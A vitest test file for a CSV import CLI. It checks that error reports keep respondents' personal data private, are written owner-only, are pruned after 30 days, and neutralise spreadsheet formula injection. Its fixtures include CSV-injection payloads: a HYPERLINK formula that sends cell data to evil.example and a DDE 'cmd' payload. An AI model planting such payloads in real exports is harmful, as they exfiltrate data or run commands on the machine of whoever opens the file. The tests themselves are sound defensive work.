import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { safeCsvCell } from '../../src/lib/csv-safe.ts';
import { pruneReports } from '../../src/cli/reports-retention.ts';
import { person, tempDir, writeTableCsv } from '../helpers/files.ts';
import { runCli } from '../helpers/cli.ts';

let dir: string;
let cleanup: () => void;
let dataDir: string;
beforeEach(() => {
  ({ dir, cleanup } = tempDir());
  dataDir = join(dir, 'data');
});
afterEach(() => cleanup());

const NOW = new Date('2021-07-05T09:00:00Z'); // the clock runCli pins
const DAY = 24 * 60 * 60 * 1000;
const SURVEY_HEADER =
  'response_id,survey,crime_id,lpa,neighbourhood,interviewed_at,question,answer';
const answer = (id: string, text: string) =>
  `${id},burglary,,,,2021-05-20T11:00:00,went_well,${text}`;

const reportsDir = () => join(dataDir, 'reports');
function reports(): string[] {
  return existsSync(reportsDir())
    ? readdirSync(reportsDir()).filter((f) => f.startsWith('import-errors-'))
    : [];
}
const reportText = () =>
  reports()
    .map((f) => readFileSync(join(reportsDir(), f), 'utf8'))
    .join('');

async function importFile(table: string, file: string, ...extra: string[]) {
  return runCli(['--data-dir', dataDir, 'import', table, file, ...extra]);
}

describe('error reports are private by default', () => {
  it('a malformed survey row with a name, phone and email reaches neither the screen nor the report', async () => {
    const f = join(dir, 'survey.csv');
    writeFileSync(
      f,
      [
        SURVEY_HEADER,
        answer('S-1', 'Fine'),
        answer('S-2', 'Jane Doe, 07700 900123, jane.doe@example.com'),
        '',
      ].join('\n'),
    );
    const r = await importFile('survey_responses', f);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(
      /survey\.csv:3 column \(row\): malformed CSV row: more fields than the header names/,
    );
    expect(reports()).toHaveLength(1);
    for (const text of [r.err, reportText()]) expect(text).not.toMatch(/Jane|07700|example\.com/);
  });

  it('an unclosed quote followed by 94 rows leaks none of them', async () => {
    const after = Array.from({ length: 94 }, (_, i) =>
      answer(`S-${i + 10}`, `respondent secret-${i} at ${i} Acacia Avenue`),
    );
    const f = join(dir, 'survey.csv');
    writeFileSync(f, [SURVEY_HEADER, answer('S-2', '"It started badly'), ...after, ''].join('\n'));
    const r = await importFile('survey_responses', f);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(
      /unterminated quote in column answer starting at line 2; the rest of the file \(94 more lines\)/,
    );
    for (const text of [r.err, reportText()])
      expect(text).not.toMatch(/secret|Acacia|started badly/);
  });

  it('writes the report owner-only (0600) in an owner-only folder (0700)', async () => {
    const f = writeTableCsv(dir, 'p.csv', 'people', [person('P1', { sex: 'x' })]);
    expect((await importFile('people', f)).code).toBe(2);
    const [name] = reports();
    expect(statSync(reportsDir()).mode & 0o777).toBe(0o700);
    expect(statSync(join(reportsDir(), name as string)).mode & 0o777).toBe(0o600);
  });

  it('neutralises formula-leading values in the report', async () => {
    const f = writeTableCsv(dir, 'p.csv', 'people', [
      person('P1', { sex: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }),
      person('P2', { sex: "+cmd|' /C calc'!A0" }),
      person('P3', { sex: '@SUM(A1)' }),
      person('P4', { sex: '-2+3' }),
    ]);
    expect((await importFile('people', f)).code).toBe(2);
    const rows = reportText().trimEnd().split('\n').slice(1);
    expect(rows.map((l) => l.split(',sex,')[1]?.replace(/,"must be one of.*$/, ''))).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      `"'+cmd|' /C calc'!A0"`,
      `"'@SUM(A1)"`,
      `"'-2+3"`,
    ]);
  });

  it('shows the first 20 problems and the true total; the report holds all of them', async () => {
    const rows = Array.from({ length: 150 }, (_, i) => person(`P${i}`, { sex: 'x' }));
    const f = writeTableCsv(dir, 'p.csv', 'people', rows);
    const r = await importFile('people', f);
    expect(r.err).toMatch(/people: 150 problems found in 1 file/);
    expect(
      r.err.split('\n').filter((l) => l.startsWith('  ') && l.includes('p.csv:')),
    ).toHaveLength(20);
    expect(r.err).toMatch(/… and 130 more \(150 in all\), listed in the full report\./);
    expect(reportText().trimEnd().split('\n')).toHaveLength(151);
  });

  it('shows a long cell cut to 80 characters, saying how long it was', async () => {
    const f = writeTableCsv(dir, 'p.csv', 'people', [person('P1', { sex: 'q'.repeat(500) })]);
    const r = await importFile('people', f);
    expect(r.err).toContain(`value "${'q'.repeat(80)}…(500 characters)"`);
    expect(reportText()).toContain(`${'q'.repeat(80)}…(500 characters)`);
    expect(reportText()).not.toContain('q'.repeat(81));
  });
});

describe('error reports are kept for a documented period, then pruned', () => {
  function oldReport(name: string, daysOld: number): string {
    mkdirSync(reportsDir(), { recursive: true });
    const path = join(reportsDir(), name);
    writeFileSync(path, 'file,line,column,value,rule\n');
    const t = new Date(NOW.getTime() - daysOld * DAY);
    utimesSync(path, t, t);
    return path;
  }

  it('removes reports older than 30 days when a new one is written, and only our own files', async () => {
    const old = oldReport('import-errors-2021-05-01T00-00-00-000Z.csv', 40);
    const recent = oldReport('import-errors-2021-06-25T00-00-00-000Z.csv', 10);
    const other = oldReport('notes.csv', 400);
    const f = writeTableCsv(dir, 'p.csv', 'people', [person('P1', { sex: 'x' })]);
    expect((await importFile('people', f)).code).toBe(2);
    expect([existsSync(old), existsSync(recent), existsSync(other)]).toEqual([false, true, true]);
    expect(reports()).toHaveLength(2);
  });

  it('--keep-reports DAYS sets the period', async () => {
    const recent = oldReport('import-errors-2021-06-25T00-00-00-000Z.csv', 10);
    const f = writeTableCsv(dir, 'p.csv', 'people', [person('P1', { sex: 'x' })]);
    expect((await importFile('people', f, '--keep-reports', '5')).code).toBe(2);
    expect(existsSync(recent)).toBe(false);
    expect((await importFile('people', f, '--keep-reports', 'soon')).code).toBe(2);
  });

  it('pruning goes by the clock it is given', () => {
    const path = oldReport('import-errors-2021-06-01T00-00-00-000Z.csv', 31);
    expect(pruneReports(reportsDir(), new Date(NOW.getTime() - 2 * DAY), 30)).toBe(0);
    expect(existsSync(path)).toBe(true);
    expect(pruneReports(reportsDir(), NOW, 30)).toBe(1);
  });
});

describe('safeCsvCell (OWASP CSV injection)', () => {
  it('prefixes and quotes formula-leading cells; leaves others and our numbers alone', () => {
    expect(safeCsvCell('=1+1')).toBe(`"'=1+1"`);
    expect(safeCsvCell('\tx')).toBe(`"'\tx"`);
    expect(safeCsvCell('\rx')).toBe(`"'\rx"`);
    expect(safeCsvCell('plain')).toBe('plain');
    expect(safeCsvCell('a,"b"')).toBe('"a,""b"""');
    expect(safeCsvCell(-3)).toBe('-3');
    expect(safeCsvCell(null)).toBe('');
  });
});
